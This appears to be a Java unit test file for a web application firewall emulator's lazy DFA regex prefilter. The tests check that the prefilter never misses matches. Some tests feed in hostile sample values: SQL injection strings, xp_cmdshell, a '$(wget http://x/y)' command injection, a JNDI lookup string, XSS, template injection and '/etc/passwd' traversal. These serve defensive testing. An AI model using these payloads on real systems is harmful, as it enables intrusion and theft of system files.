package dev.powerpages.emulator.waf.engine;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;
import java.util.regex.PatternSyntaxException;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/**
 * The lazy DFA prefilter may only save work: it never answers "no match" for a value in which
 * java.util.regex or RE2/J finds one, on random patterns and values and on every @rx of the rule
 * files over hostile values; it does answer "no" where nothing can match; and its cache stays
 * within its bound on a pattern whose full DFA would be exponential.
 */
class LazyDfaPrefilterTest {

    private static LazyDfaPrefilter dfa(String pcre) {
        LazyDfaPrefilter dfa = LazyDfaPrefilter.of(LinearRegex.compile(pcre));
        assertThat(dfa).as("DFA of %s", pcre).isNotNull();
        return dfa;
    }

    @Test
    void answersNoOnlyWhereNoSubstringCanMatch() {
        LazyDfaPrefilter select = dfa("(?i)\\bselect\\b.{0,40}\\bfrom\\b");
        assertThat(select.mayMatch("x' UNION SELECT name FROM users")).isTrue();
        assertThat(select.mayMatch("select fro")).isFalse();
        assertThat(select.mayMatch("a".repeat(100_000))).isFalse();
        // Assertions are taken as true: a superset, so "maybe" where \b would fail.
        assertThat(select.mayMatch("xselectyfromz")).isTrue();

        LazyDfaPrefilter anchored = dfa("^admin$");
        // $ is taken as true, ^ is not: it holds at the first position only.
        assertThat(anchored.mayMatch("admin page")).isTrue();
        assertThat(anchored.mayMatch("the admin page")).isFalse();
        assertThat(anchored.mayMatch("adm in")).isFalse();
        LazyDfaPrefilter traversal = dfa("(?:^|[/;\\x5c])\\.{2,3}[/;\\x5c]");
        assertThat(traversal.mayMatch("../x")).isTrue();
        assertThat(traversal.mayMatch("a/../x")).isTrue();
        assertThat(traversal.mayMatch("a../x")).isFalse();
    }

    @Test
    void readsCodePointsAndFoldsCaseAsRe2Does() {
        // RE2's (?i) folds the Kelvin sign to k: a superset of java.util.regex's US-ASCII folding.
        assertThat(dfa("(?i)kelvin").mayMatch("\u212Aelvin")).isTrue();
        assertThat(dfa("(?i)kelvin").mayMatch("KeLvIn")).isTrue();
        assertThat(dfa("kelvin").mayMatch("Kelvin")).isFalse();
        // A supplementary character is one code point (one '.'), a lone surrogate its own.
        assertThat(dfa("a.b").mayMatch("a\uD83D\uDE00b")).isTrue();
        assertThat(dfa("a..b").mayMatch("a\uD83D\uDE00b")).isFalse();
        assertThat(dfa("a.b").mayMatch("a\uD800b")).isTrue();
        assertThat(dfa("[^\\x00-\\x7f]{2}").mayMatch("\u00e9\u4e2d")).isTrue();
        assertThat(dfa("[^\\x00-\\x7f]{2}").mayMatch("\u00e9a\u4e2d")).isFalse();
    }

    /**
     * Soundness on random patterns of what RE2 runs (classes, groups, alternations, quantifiers,
     * flags, anchors, word boundaries) over values of letters in both cases, digits, spaces, line
     * ends and non-ASCII code points that fold (the Kelvin sign, the long s) or not.
     */
    @Test
    void randomPatternsNeverSayNoWhereEitherEngineFindsAMatch() {
        Random random = new Random(20261206L);
        int compiled = 0;
        int matched = 0;
        int excluded = 0;
        for (int n = 0; n < 5000; n++) {
            String pcre = randomPattern(random, 3);
            BothEngines engines = BothEngines.compile(pcre);
            if (engines == null) {
                continue;
            }
            Pattern java = engines.java();
            com.google.re2j.Pattern re2 = engines.re2();
            LazyDfaPrefilter dfa = LazyDfaPrefilter.of(re2);
            assertThat(dfa).as(pcre).isNotNull();
            compiled++;
            for (int k = 0; k < 120; k++) {
                String value = randomValue(random);
                boolean found = java.matcher(value).find() || re2.matcher(value).find();
                boolean may = dfa.mayMatch(value);
                if (found) {
                    matched++;
                    assertThat(may)
                            .as("%s matches %s but the DFA says no", pcre, escape(value))
                            .isTrue();
                } else if (!may) {
                    excluded++;
                }
            }
        }
        assertThat(compiled).isGreaterThan(3000);
        assertThat(matched).isGreaterThan(50_000);
        assertThat(excluded).isGreaterThan(50_000);
    }

    /** Every @rx of the rule files that runs on RE2/J, on attack samples and hostile values. */
    @Test
    void everyRuleFilePatternSaysMaybeWhereverItMatches() throws IOException {
        List<String> values = new ArrayList<>(List.of(
                "1' union select @@version--",
                "exec master..xp_cmdshell 'dir'",
                ";/bin/ca\\t /et?/passwd",
                "$(wget http://x/y)",
                "<svg onload=alert(1)>",
                "${jndi:ldap://x/a}",
                "; cat /etc/passwd",
                "x' OR 1=1 --",
                "{{7*7}}",
                "../../etc/passwd"));
        HostileInputs inputs = new HostileInputs(5112634740286L);
        for (int i = 0; i < 150; i++) {
            values.add(inputs.next(i % 10 == 0 ? 4000 : 300));
        }
        int patterns = 0;
        int matched = 0;
        int excluded = 0;
        for (String pcre : ruleFilePatterns()) {
            com.google.re2j.Pattern re2 = LinearRegex.compile(pcre);
            if (re2 == null) {
                continue;
            }
            LazyDfaPrefilter dfa = LazyDfaPrefilter.of(re2);
            assertThat(dfa).as(pcre).isNotNull();
            patterns++;
            Pattern java = Pattern.compile(Operators.javaPattern(pcre), Pattern.DOTALL);
            for (String value : values) {
                boolean may = dfa.mayMatch(value);
                if (!may) {
                    excluded++;
                    assertThat(re2.matcher(value).find())
                            .as("%s: the DFA says no to a value RE2/J matches", pcre)
                            .isFalse();
                    // java.util.regex on the shorter values only: on long hostile text some of
                    // these patterns backtrack for seconds (what the RE2/J fallback is for).
                    if (value.length() <= 1000) {
                        assertThat(java.matcher(value).find())
                                .as("%s: the DFA says no to a value java.util.regex matches", pcre)
                                .isFalse();
                    }
                } else {
                    matched++;
                }
            }
        }
        assertThat(patterns).isGreaterThan(100);
        assertThat(matched).isPositive();
        assertThat(excluded).isGreaterThan(patterns * values.size() / 4);
    }

    /**
     * A pattern RE2/J cannot run because of a lookaround (942320, 942350) gets the automaton of the pattern without
     * it: a superset, so "maybe" wherever java.util.regex matches, and "no" where nothing but the lookaround is left out.
     */
    @Test
    void lookaroundsAreTakenOutForTheAutomatonOnly() throws IOException {
        assertThat(LazyDfaPrefilter.withoutLookarounds("(?<!&(?:amp|#[0-9]{1,7}));[\\s]*drop|a(?=b[)])c"))
                .isEqualTo(";[\\s]*drop|ac");
        assertThat(LazyDfaPrefilter.withoutLookarounds("[(?<!x)]y")).isNull();
        assertThat(LazyDfaPrefilter.withoutLookarounds("a(?!b)*")).isNull();
        LazyDfaPrefilter relaxed = LazyDfaPrefilter.ofWithoutLookarounds("(?<!&(?:amp|#[0-9]{1,7}));[\\s]*drop\\b");
        assertThat(relaxed.mayMatch("x; drop table")).isTrue();
        assertThat(relaxed.mayMatch("&amp; drop")).isTrue(); // the lookbehind would exclude it: the regex decides
        assertThat(relaxed.mayMatch("drop; it")).isFalse();

        HostileInputs inputs = new HostileInputs(5112634740286L);
        List<String> values = new ArrayList<>(List.of("1; drop table x", "&amp; drop", "a ;declare @x", "; select"));
        for (int i = 0; i < 300; i++) {
            values.add(inputs.next(i % 10 == 0 ? 4000 : 300));
        }
        int patterns = 0;
        int excluded = 0;
        for (String pcre : ruleFilePatterns()) {
            if (LinearRegex.compile(pcre) != null) {
                continue;
            }
            LazyDfaPrefilter dfa = LazyDfaPrefilter.ofWithoutLookarounds(pcre);
            assertThat(dfa).as(pcre).isNotNull();
            patterns++;
            Pattern java = Pattern.compile(Operators.javaPattern(pcre), Pattern.DOTALL);
            for (String value : values) {
                if (!dfa.mayMatch(value)) {
                    excluded++;
                    assertThat(java.matcher(value).find())
                            .as("%s: the DFA says no to a value java.util.regex matches", pcre)
                            .isFalse();
                }
            }
        }
        assertThat(patterns).isEqualTo(2);
        assertThat(excluded).isPositive();
    }

    /**
     * {@code a[ab]{14}c}'s DFA has 2^15 states (the last 15 characters' a positions): read over
     * random a/b text, the cache is flushed rather than grown, and a value that overflows it more
     * than once answers "maybe" (the exact engine then decides), never "no" by mistake.
     */
    @Test
    void cacheStaysWithinItsBoundAndOverflowAnswersMaybe() {
        LazyDfaPrefilter dfa = dfa("a[ab]{14}c");
        Random random = new Random(1);
        StringBuilder value = new StringBuilder();
        for (int i = 0; i < 200_000; i++) {
            value.append(random.nextBoolean() ? 'a' : 'b');
        }
        assertThat(dfa.mayMatch(value)).isTrue();
        assertThat(dfa.flushes()).isGreaterThanOrEqualTo(2);
        int minimumStateCost = dfa.classCount() + 1;
        assertThat((long) dfa.cachedStates() * minimumStateCost).isLessThanOrEqualTo(LazyDfaPrefilter.MAX_CACHE_INTS);
        // A short value still gets the DFA's own answer.
        assertThat(dfa.mayMatch("abababab")).isFalse();
        assertThat(dfa.mayMatch("xaabababababababac")).isTrue();
    }

    /**
     * Request threads share a rule's DFA: reading values while others build and flush states never
     * gives a wrong "no" (a racing flush may only turn an answer into "maybe").
     */
    @Test
    void threadsSharingTheCacheNeverMissAMatch() throws Exception {
        String pcre = "a[ab]{14}c";
        LazyDfaPrefilter dfa = dfa(pcre);
        com.google.re2j.Pattern exact = LinearRegex.compile(pcre);
        List<Thread> threads = new ArrayList<>();
        List<String> wrong = java.util.Collections.synchronizedList(new ArrayList<>());
        for (int t = 0; t < 4; t++) {
            long seed = t;
            threads.add(new Thread(() -> {
                Random random = new Random(seed);
                for (int n = 0; n < 4000; n++) {
                    StringBuilder value = new StringBuilder();
                    int length = 5 + random.nextInt(n % 50 == 0 ? 5000 : 40);
                    for (int i = 0; i < length; i++) {
                        value.append("aabbc".charAt(random.nextInt(5)));
                    }
                    if (exact.matcher(value).find() && !dfa.mayMatch(value)) {
                        wrong.add(value.toString());
                    }
                }
            }));
        }
        threads.forEach(Thread::start);
        for (Thread thread : threads) {
            thread.join();
        }
        assertThat(wrong).isEmpty();
        assertThat(dfa.flushes()).isPositive();
    }

    static List<String> ruleFilePatterns() throws IOException {
        List<String> patterns = new ArrayList<>();
        for (String set : List.of("src/main/resources/waf/drs", "src/main/resources/waf/bots")) {
            if (!Files.isDirectory(Path.of(set))) {
                continue;
            }
            try (Stream<Path> files = Files.list(Path.of(set))) {
                for (Path file :
                        files.filter(f -> f.toString().endsWith(".conf")).toList()) {
                    for (String line : Files.readAllLines(file)) {
                        int at = line.indexOf("\"@rx ");
                        int end = line.lastIndexOf('"');
                        if (at >= 0 && end > at + 5) {
                            patterns.add(line.substring(at + 5, end).replace("\\\"", "\""));
                        }
                    }
                }
            }
        }
        return patterns;
    }

    /** A random pattern as both engines compile it, or null when either refuses it (the tests skip those). */
    record BothEngines(Pattern java, com.google.re2j.Pattern re2) {

        static BothEngines compile(String pcre) {
            Pattern java;
            try {
                java = Pattern.compile(Operators.javaPattern(pcre), Pattern.DOTALL);
            } catch (PatternSyntaxException invalid) {
                return null;
            }
            com.google.re2j.Pattern re2 = LinearRegex.compile(pcre);
            return re2 == null ? null : new BothEngines(java, re2);
        }
    }

    static String randomPattern(Random random, int depth) {
        StringBuilder out = new StringBuilder();
        int parts = 1 + random.nextInt(4);
        for (int i = 0; i < parts; i++) {
            int kind = random.nextInt(depth > 0 ? 15 : 9);
            String atom = switch (kind) {
                case 0, 1, 2 -> String.valueOf("abcABks".charAt(random.nextInt(7)));
                case 3 ->
                    List.of("[ab]", "[^a]", "[a-c]", "[Kk]", "[\\x61c]", "[a-]", "[\\s,]", "[^\\s]", "[\\d\\^]")
                            .get(random.nextInt(9));
                case 4 ->
                    List.of(".", "\\w", "\\s", "\\d", "\\W", "\\S", "\\Qa.\\E", "\\.", "[[:alpha:]]", "\\x{e9}")
                            .get(random.nextInt(10));
                case 5 ->
                    List.of("^", "$", "\\b", "\\B", "(?i)", "(?-i)", "(?m)").get(random.nextInt(7));
                case 6, 7, 8 -> String.valueOf("abk".charAt(random.nextInt(3))) + "bsa".charAt(random.nextInt(3));
                case 9, 10 -> "(?:" + randomPattern(random, depth - 1) + "|" + randomPattern(random, depth - 1) + ")";
                case 11 -> "(" + randomPattern(random, depth - 1) + ")";
                case 12 -> "(?i:" + randomPattern(random, depth - 1) + ")";
                case 13 -> "(?s:" + randomPattern(random, depth - 1) + ")";
                default -> "(?:" + randomPattern(random, depth - 1) + "|)";
            };
            out.append(atom);
            // A quantifier on a flag group or an assertion is read differently by the two engines
            // (Java quantifies the atom before a flag group, RE2 the empty group): not generated.
            if (kind != 5 && random.nextInt(3) == 0) {
                out.append(List.of("?", "*", "+", "{2}", "{0,2}", "{1,}", "*?", "+?", "{3,5}")
                        .get(random.nextInt(9)));
            }
        }
        return out.toString();
    }

    /** Letters of both cases, what folds to them beyond ASCII, spaces and line ends, a supplementary character. */
    private static final String[] VALUE_CHARS = {
        "a",
        "b",
        "c",
        "A",
        "B",
        "k",
        "K",
        "s",
        "S",
        "\u212A",
        "\u017F",
        "1",
        " ",
        "\n",
        "\r",
        "\u000B",
        ".",
        "^",
        "\u00e9",
        "\u00c9",
        "\uD83D\uDE00",
        "\uD800",
        "_",
        ","
    };

    static String randomValue(Random random) {
        StringBuilder value = new StringBuilder();
        int length = random.nextInt(14);
        for (int i = 0; i < length; i++) {
            value.append(VALUE_CHARS[random.nextInt(VALUE_CHARS.length)]);
        }
        return value.toString();
    }

    static String escape(String value) {
        StringBuilder out = new StringBuilder();
        value.codePoints()
                .forEach(cp ->
                        out.append(cp < 0x20 || cp > 0x7e ? String.format("\\x{%x}", cp) : Character.toString(cp)));
        return out.toString();
    }

    /**
     * {@code @pm}'s automaton (the Aho-Corasick automaton of the phrases, read lazily) answers exactly as the lowered
     * copy and the phrase scan did, on random values of letters whose lower case is special (İ, Σ, the Kelvin sign,
     * the long s, dotless ı), supplementary characters and lone surrogates, and on hostile values against every
     * phrase file of the rule set; it gives up ("undecided", the caller lowers and scans) only on İ and Σ.
     */
    @Test
    void phraseAutomatonAnswersAsTheLoweredScan() throws IOException {
        List<String> phrases =
                List.of("select", "union all", "/etc/passwd", "kelvin", "ſx", "i\u0307", "σς", "é", "\uD83D\uDE00x");
        Operator automaton = Operators.phrases(phrases, true);
        Operator scan = Operators.phrases(phrases, false);
        String alphabet = "aAsSeElLcCtTkK \u0131\u0130\u03C3\u03A3\u03C2\u017F\u212A\u00E9\u00C9\u0307/xXnNiIuUoO"
                + "\uD83D\uDE00\uD800";
        Random random = new Random(7);
        int found = 0;
        for (int n = 0; n < 200_000; n++) {
            StringBuilder value = new StringBuilder();
            int length = random.nextInt(n % 1000 == 0 ? 3000 : 14);
            for (int i = 0; i < length; i++) {
                value.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            String v = value.toString();
            boolean expected = scan.matches(v);
            assertThat(automaton.matches(v)).as("phrases in %s", escape(v)).isEqualTo(expected);
            found += expected ? 1 : 0;
        }
        assertThat(found).isBetween(1_000, 150_000);

        LazyDfaPrefilter dfa = LazyDfaPrefilter.ofPhrases(List.of("select", "kelvin"));
        assertThat(dfa.search("x' UNION SELECT 1")).isEqualTo(LazyDfaPrefilter.MATCH);
        assertThat(dfa.search("\u212Aelvin")).isEqualTo(LazyDfaPrefilter.MATCH);
        assertThat(dfa.search("selec kelvi")).isEqualTo(LazyDfaPrefilter.NO_MATCH);
        assertThat(dfa.search("\u0130 kelvi")).isEqualTo(LazyDfaPrefilter.UNDECIDED);
        // A match found before such a character is still certain: what precedes it lowers one character at a time.
        assertThat(dfa.search("SELECT \u0130")).isEqualTo(LazyDfaPrefilter.MATCH);

        HostileInputs inputs = new HostileInputs(5112634740286L);
        List<String> values = new ArrayList<>();
        for (int i = 0; i < 300; i++) {
            values.add(inputs.next(i % 10 == 0 ? 20_000 : 400));
        }
        Path drs = Path.of("src/main/resources/waf/drs");
        try (Stream<Path> files = Files.list(drs)) {
            for (Path file : files.filter(f -> f.toString().endsWith(".data")).toList()) {
                List<String> lines = Files.readAllLines(file);
                Operator fromFile = Operators.phrases(lines, true);
                Operator scanned = Operators.phrases(lines, false);
                for (String value : values) {
                    assertThat(fromFile.matches(value))
                            .as("%s in %s", file.getFileName(), escape(value))
                            .isEqualTo(scanned.matches(value));
                }
            }
        }
    }
}
